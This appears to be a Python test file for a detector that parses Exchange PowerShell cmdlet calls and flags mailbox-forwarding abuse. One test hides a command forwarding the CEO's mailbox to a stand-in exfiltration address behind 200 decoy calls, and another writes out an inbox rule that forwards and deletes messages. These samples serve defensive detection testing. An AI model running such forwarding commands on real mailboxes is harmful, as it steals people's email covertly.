"""app/normalise/cmdlet_text.py: Exchange cmdlet calls and their parameters read from script and command-line text."""

import json

from app.normalise.cmdlet_text import cmdlet_pattern, find_invocations


def test_cmdlet_parameters():
    pattern = cmdlet_pattern(["New-InboxRule", "Set-Mailbox"])
    text = ('New-InboxRule -Name "a b" -ForwardTo "x@y.com",\'z@y.com\' -DeleteMessage $true -StopProcessingRules\n'
            'Set-Mailbox -Identity:bob -ForwardingSmtpAddress $null; Set-Mailbox bob -ForwardingAddress `\n  "mgr"')
    found = find_invocations(text, pattern)
    assert found[0] == ("New-InboxRule", {"name": "a b", "forwardto": "x@y.com;z@y.com", "deletemessage": "$true",
                                          "stopprocessingrules": "True"})
    assert found[1] == ("Set-Mailbox", {"identity": "bob", "forwardingsmtpaddress": ""})
    # A value before any named parameter binds to the cmdlet's first positional one.
    assert found[2] == ("Set-Mailbox", {"identity": "bob", "forwardingaddress": "mgr"})
    assert find_invocations("Get-Date; Set-Mailbox -ForwardingAddress m", pattern) == [
        ("Set-Mailbox", {"forwardingaddress": "m"})]


def test_cmdlet_names_must_be_whole_words():
    pattern = cmdlet_pattern(["Set-Mailbox"])
    assert find_invocations("Set-MailboxFolderPermission -Identity x", pattern) == []
    assert find_invocations("Get-Set-Mailbox", pattern) == []


def test_decoy_calls_do_not_hide_a_later_one(engine):
    decoys = "\n".join("Set-Mailbox -Identity user%d -ProhibitSendQuota 50GB" % i for i in range(200))
    script = decoys + "\nSet-Mailbox -Identity ceo -ForwardingSmtpAddress smtp:drop@exfil.example\n"
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": script, "user": "x"}
    assert engine.annotate(record) is True
    assert "t1114_003_mailbox_forwarding" in [f["rule"] for f in json.loads(record["t1114_findings"])]


def test_hostile_cmdlet_text_is_bounded_and_reported():
    from app.problems import ProblemLog

    pattern = cmdlet_pattern(["Set-Mailbox"])
    problems = ProblemLog()
    # An unclosed quote makes the rest of the text one string, as PowerShell reads it: one call.
    unclosed = "Set-Mailbox -Identity 'x " * 20000
    assert [name for name, _ in find_invocations(unclosed, pattern, problems)] == ["Set-Mailbox"]
    hostile = "Set-Mailbox -Identity x;" * 20000
    found = find_invocations(hostile, pattern, problems)
    assert 0 < len(found) < 20000
    assert any("were not checked" in m for m in problems.messages())


def test_hostile_cmdlet_text_costs_steps_in_proportion_to_its_length():
    """Counted in lines of app/ code run (tools/step_count.py), not timed: twice the hostile
    text costs at most about twice the steps (an unclosed quote reads to its call's budget,
    never to the text's end)."""
    from tools.step_count import count_steps

    pattern = cmdlet_pattern(["Set-Mailbox"])
    unit = "Set-Mailbox -Identity 'x "  # calls that never end their statement
    _, steps = count_steps(find_invocations, unit * 400, pattern)
    _, doubled = count_steps(find_invocations, unit * 800, pattern)
    assert steps > 0
    assert doubled <= 2.2 * steps, "find_invocations over unclosed Set-Mailbox calls: %d steps for 400, %d for 800" % (
        steps, doubled)
